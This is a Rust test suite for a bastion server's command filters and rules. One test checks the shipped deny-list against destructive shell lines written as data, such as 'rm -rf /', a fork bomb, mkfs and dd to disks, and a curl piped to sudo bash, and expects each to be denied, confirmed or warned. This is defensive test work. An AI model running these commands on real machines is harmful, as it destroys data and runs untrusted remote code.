//! Filters and rules: written, refused, warned of, attached, loaded, explained, and kept in the policy file.

use crate::bastion::{Bastion, keys, text};
use crate::policy::with_everything;
use serde_json::{Value, json};

fn bastion() -> Bastion {
    let bastion = with_everything();
    bastion.ok(&["user-group", "add", "juniors", "--user", "alice"]);
    bastion.ok(&["filter", "add", "careful"]);
    bastion
}

fn login(bastion: &Bastion) -> String {
    let names = bastion.json(&["system-user", "ls"]);
    let system_user = names[0]["name"].as_str().unwrap();
    format!("alice@{system_user}@web1")
}

#[test]
fn fields_of_filters_and_rules_are_a_promise_to_scripts() {
    let bastion = bastion();
    let scope = [
        "users",
        "user_groups",
        "assets",
        "asset_groups",
        "system_users",
    ];
    let filter = [
        &["name", "default"],
        &scope[..],
        &["rule_count", "comment", "created_at", "updated_at"],
    ]
    .concat();
    assert_eq!(keys(&bastion.json(&["filter", "ls"])[0]), filter);
    assert_eq!(
        keys(&bastion.json(&["filter", "show", "careful"])[0]),
        [&filter[..], &["rules"]].concat()
    );
    let rule = [
        &[
            "id",
            "filter",
            "priority",
            "verdict",
            "command",
            "regex",
            "ignore_case",
            "everywhere",
        ],
        &scope[..],
        &["comment", "created_at", "updated_at"],
    ]
    .concat();
    let added = bastion.json(&[
        "rule",
        "add",
        "careful",
        "--verdict",
        "deny",
        "--command",
        "rm -rf",
    ]);
    assert_eq!(keys(&added[0]), rule);
    assert_eq!(bastion.json(&["rule", "ls"]), added);
    assert_eq!(bastion.json(&["rule", "show", "1"]), added);
    assert_eq!(
        bastion.json(&["filter", "show", "careful"])[0]["rules"][0]["command"],
        "rm -rf"
    );
}

#[test]
fn a_filter_that_nobody_is_attached_to_says_so() {
    let bastion = with_everything();
    let added = bastion.run(&["filter", "add", "careful", "--default", "deny"]);
    assert!(text(&added.stderr).contains("applies nowhere"));
    let attached = bastion.run(&["filter", "attach", "careful", "--user", "alice"]);
    assert_eq!(text(&attached.stderr), "");
    let detached = bastion.run(&["filter", "detach", "careful"]);
    assert!(text(&detached.stderr).contains("applies nowhere"));
    assert_eq!(
        bastion
            .fails(3, &["filter", "show", "carefull"])
            .lines()
            .count(),
        1
    );
}

#[test]
fn attaching_to_more_never_makes_it_apply_to_less_nor_detaching_to_more() {
    let bastion = bastion();
    bastion.ok(&["filter", "attach", "careful", "--user-group", "juniors"]);
    let refused = bastion.fails(2, &["filter", "attach", "careful", "--asset", "web1"]);
    assert!(refused.contains("all assets"), "{refused}");
    bastion.ok(&["filter", "attach", "careful", "--user", "bob"]);
    bastion.ok(&["filter", "detach", "careful"]);
    bastion.ok(&[
        "filter",
        "attach",
        "careful",
        "--user",
        "alice",
        "--asset",
        "web1,web2",
    ]);
    bastion.ok(&["filter", "detach", "careful", "--asset", "web2"]);
    let refused = bastion.fails(2, &["filter", "detach", "careful", "--asset", "web1"]);
    assert!(refused.contains("all assets"), "{refused}");
    let known = &bastion.json(&["filter", "show", "careful"])[0];
    assert_eq!(known["users"], json!(["alice"]));
    assert_eq!(known["assets"], json!(["web1"]));
    let refused = bastion.fails(3, &["filter", "detach", "careful", "--user", "bob"]);
    assert!(refused.contains("bob"), "{refused}");
}

#[test]
fn a_rule_that_is_none_is_refused_and_one_that_is_never_reached_is_said() {
    let bastion = bastion();
    for (flag, value, reason) in [
        ("--command", "", "names no program"),
        ("--command", "ls; rm", "a program with flags and words"),
        ("--regex", "", "empty"),
        ("--regex", "(", "cannot be used"),
        ("--regex", "x*", "every line"),
    ] {
        let said = bastion.fails(
            2,
            &["rule", "add", "careful", "--verdict", "deny", flag, value],
        );
        assert!(said.contains(reason), "{value:?}: {said}");
    }
    bastion.fails(2, &["rule", "add", "careful", "--verdict", "deny"]);
    let deny = |command: &str| {
        let rule = ["rule", "add", "careful", "--verdict", "deny", "--command"];
        let output = bastion.run(&[&rule[..], &[command]].concat());
        assert!(output.status.success());
        text(&output.stderr)
    };
    assert_eq!(deny("rm"), "");
    assert!(deny("rm -rf").contains("never reached"));
}

#[test]
fn a_rule_is_changed_and_removed_by_its_number() {
    let bastion = bastion();
    let add = ["rule", "add", "careful", "--verdict", "deny", "--command"];
    bastion.ok(&[&add[..], &["reboot", "--user-group", "juniors"]].concat());
    bastion.ok(&[
        "rule",
        "set",
        "1",
        "--verdict",
        "warn",
        "--priority",
        "7",
        "--regex",
        "^halt",
        "--ignore-case",
        "yes",
    ]);
    let rule = &bastion.json(&["rule", "show", "1"])[0];
    assert_eq!(rule["verdict"], "warn");
    assert_eq!(rule["priority"], 7);
    assert_eq!(rule["command"], Value::Null);
    assert_eq!(rule["regex"], "^halt");
    assert_eq!(rule["ignore_case"], true);
    assert_eq!(rule["everywhere"], false);
    assert_eq!(rule["user_groups"], json!(["juniors"]));
    let refused = bastion.fails(2, &["rule", "set", "1", "--user-group", "none"]);
    assert!(refused.contains("--everywhere"), "{refused}");
    bastion.ok(&["rule", "set", "1", "--everywhere"]);
    let rule = &bastion.json(&["rule", "show", "1"])[0];
    assert_eq!(
        (&rule["everywhere"], &rule["user_groups"]),
        (&json!(true), &json!([]))
    );
    bastion.ok(&["rule", "rm", "1", "--yes"]);
    bastion.fails(3, &["rule", "show", "1"]);
}

#[test]
fn a_file_replaces_all_rules_or_none() {
    let bastion = bastion();
    let load = ["filter", "load", "careful", "-"];
    let loaded = bastion.run_with(&load, r#"[{"pattern": "^\\s*rm\\b", "action": "deny"}]"#);
    assert!(loaded.status.success(), "{}", text(&loaded.stderr));
    let rules = bastion.json(&["rule", "ls", "--filter", "careful"]);
    assert_eq!(rules.len(), 1);
    assert_eq!(rules[0]["regex"], r"^\s*rm\b");
    for broken in [
        "[{\"pattern\": \"(\", \"action\": \"deny\"}]",
        "[[rule]]\nverdict = \"deny\"\ncommand = \"a\"\n[[rule]]\nverdict = \"deny\"\ncommand = \"b;c\"",
        "[[rule]]\nverdict = \"veto\"\ncommand = \"a\"",
        "no file of rules",
    ] {
        let refused = bastion.run_with(&load, broken);
        assert!(!refused.status.success(), "{broken}");
        assert!(!text(&refused.stderr).is_empty());
        assert_eq!(bastion.json(&["rule", "ls"]), rules, "{broken}");
    }
    assert!(bastion.run_with(&load, "[]").status.success());
    assert_eq!(bastion.json(&["rule", "ls"]), Vec::<Value>::new());
}

#[test]
fn the_filter_that_ships_can_be_loaded_and_has_no_rule_that_is_never_reached() {
    let bastion = bastion();
    let shipped = include_str!("../../../packaging/filters/dangerous.toml");
    let loaded = bastion.run_with(&["filter", "load", "careful", "-"], shipped);
    assert!(loaded.status.success(), "{}", text(&loaded.stderr));
    assert!(!text(&loaded.stderr).contains("never reached"));
    let login = login(&bastion);
    for (line, verdict) in [
        ("rm -rf /", "deny"),
        ("sudo rm -fr --no-preserve-root /", "deny"),
        ("rm -rf build", "confirm"),
        ("rm file", "allow"),
        ("chmod -R 777 /", "deny"),
        ("chmod -R 777 /srv/x", "allow"),
        ("/sbin/mkfs.ext4 /dev/sdb1", "deny"),
        ("dd if=/dev/zero of=/dev/nvme0n1 bs=1M", "deny"),
        ("dd if=a of=b", "allow"),
        ("echo x > /dev/sda", "deny"),
        (":(){ :|:& };:", "deny"),
        ("sudo reboot", "confirm"),
        ("systemctl --no-block reboot", "confirm"),
        ("systemctl restart nginx", "allow"),
        ("systemctl stop sshd", "confirm"),
        ("curl -s https://x.example/i | sudo bash", "warn"),
        ("iptables -t nat -F", "confirm"),
        ("echo rm -rf /", "allow"),
        ("history", "allow"),
    ] {
        let test = [
            "filter", "test", "--as", &login, "--filter", "careful", line,
        ];
        let judged = &bastion.json(&test)[0];
        assert_eq!(judged["verdict"], verdict, "{line}: {judged}");
    }
}

#[test]
fn a_line_is_explained_command_by_command_and_rule_by_rule() {
    let bastion = bastion();
    let add = ["rule", "add", "careful", "--verdict", "deny", "--command"];
    bastion.ok(&[&add[..], &["rm -rf"]].concat());
    let login = login(&bastion);
    let line = "ls; sudo rm -r -f x";
    let free = &bastion.json(&["filter", "test", "--as", &login, line])[0];
    assert_eq!(free["verdict"], "allow");
    assert_eq!(free["filter"], Value::Null);

    bastion.ok(&["filter", "attach", "careful", "--user-group", "juniors"]);
    let judged = &bastion.json(&["filter", "test", "--as", &login, line])[0];
    assert_eq!(judged["verdict"], "deny");
    assert_eq!(judged["filter"], "careful");
    assert_eq!(judged["rule"], "rm -rf");
    assert_eq!(judged["rule_id"], 1);
    assert_eq!(judged["command"], "rm -r -f x");
    let commands: Vec<(i64, &str)> = judged["commands"]
        .as_array()
        .unwrap()
        .iter()
        .map(|one| {
            (
                one["depth"].as_i64().unwrap(),
                one["command"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        commands,
        [(0, "ls"), (0, "sudo rm -r -f x"), (1, "rm -r -f x")]
    );
    assert_eq!(judged["commands"][2]["rules"][0]["hit"], true);
    let words = bastion.ok(&["filter", "test", "--as", &login, line]);
    assert!(
        words.ends_with("deny: denied by filter careful, rule 1 (rm -rf): rm -r -f x\n"),
        "{words}"
    );
    let hidden = bastion.ok(&["filter", "test", "--as", &login, "$x -rf"]);
    assert!(
        hidden.contains("opaque: the program's name stands in a variable"),
        "{hidden}"
    );
}

#[test]
fn where_a_filter_is_enforced_the_explanation_says_what_is_refused_and_what_is_sent() {
    let bastion = bastion();
    let login = login(&bastion);
    bastion.ok(&["filter", "set", "careful", "--default", "deny"]);
    bastion.ok(&["filter", "attach", "careful", "--user-group", "juniors"]);
    let add = ["rule", "add", "careful", "--verdict", "allow", "--command"];
    for command in ["ls", "wc", "sh"] {
        bastion.ok(&[&add[..], &[command]].concat());
    }
    let test = |line: &str| bastion.json(&["filter", "test", "--as", &login, line])[0].clone();
    for grant in bastion.json(&["grant", "ls"]) {
        let name = grant["name"].as_str().unwrap();
        bastion.ok(&["grant", "set", name, "--rights", "shell,exec"]);
    }
    let free = test("ls | wc");
    assert_eq!(free["verdict"], "allow", "{free}");
    assert_eq!(free["enforced_by"], Value::Null, "{free}");
    for grant in bastion.json(&["grant", "ls"]) {
        let name = grant["name"].as_str().unwrap();
        bastion.ok(&["grant", "set", name, "--rights", "exec"]);
    }
    for line in ["ls | wc", "sh", "ls ~", "ls 'a!'"] {
        let refused = test(line);
        assert_eq!(refused["verdict"], "deny", "{refused}");
        assert_eq!(refused["enforced_by"], "careful", "{refused}");
        assert_eq!(refused["sent"], Value::Null, "{refused}");
    }
    let passed = test("ls \"a b\"");
    assert_eq!(passed["verdict"], "allow", "{passed}");
    assert_eq!(passed["sent"], "'ls' 'a b'", "{passed}");
}

#[test]
fn the_policy_file_has_filters_with_their_rules() {
    let bastion = bastion();
    bastion.ok(&["filter", "attach", "careful", "--user-group", "juniors"]);
    let add = ["rule", "add", "careful", "--verdict"];
    bastion.ok(&[
        &add[..],
        &["deny", "--command", "rm -rf", "--priority", "10"],
    ]
    .concat());
    bastion.ok(&[
        &add[..],
        &[
            "warn",
            "--regex",
            "^DROP",
            "--ignore-case",
            "--asset",
            "web1",
        ],
    ]
    .concat());
    let exported = bastion.ok(&["export", "filter"]);
    let same = bastion.run_with(&["diff", "-"], &exported);
    assert!(same.status.success(), "{}", text(&same.stdout));

    bastion.ok(&["filter", "rm", "careful", "--yes"]);
    let applied = bastion.run_with(&["apply", "-", "--yes"], &exported);
    assert!(applied.status.success(), "{}", text(&applied.stderr));
    assert_eq!(bastion.ok(&["export", "filter"]), exported);

    let short = "[[filter.careful.rule]]\nverdict = \"deny\"\ncommand = \"halt\"\n";
    let differs = bastion.run_with(&["diff", "-"], short);
    assert_eq!(differs.status.code(), Some(1));
    let applied = bastion.run_with(&["apply", "-", "--yes"], short);
    assert!(applied.status.success(), "{}", text(&applied.stderr));
    let rules = bastion.json(&["rule", "ls"]);
    assert_eq!(rules.len(), 1);
    assert_eq!(rules[0]["command"], "halt");
    let pruned = bastion.run_with(&["apply", "-", "--yes", "--prune"], "[filter]\n");
    assert!(pruned.status.success(), "{}", text(&pruned.stderr));
    assert_eq!(bastion.json(&["filter", "ls"]), Vec::<Value>::new());
}

#[test]
fn removing_a_group_that_a_filter_was_for_says_what_becomes_of_it() {
    let bastion = bastion();
    bastion.ok(&[
        "filter",
        "attach",
        "careful",
        "--user-group",
        "juniors",
        "--asset",
        "web1",
    ]);
    let removed = bastion.run(&["user-group", "rm", "juniors", "--yes"]);
    let said = text(&removed.stderr);
    assert!(
        said.contains("filter careful applies nowhere any more"),
        "{said}"
    );
    assert_eq!(
        bastion.json(&["filter", "show", "careful"])[0]["assets"],
        json!([])
    );
}
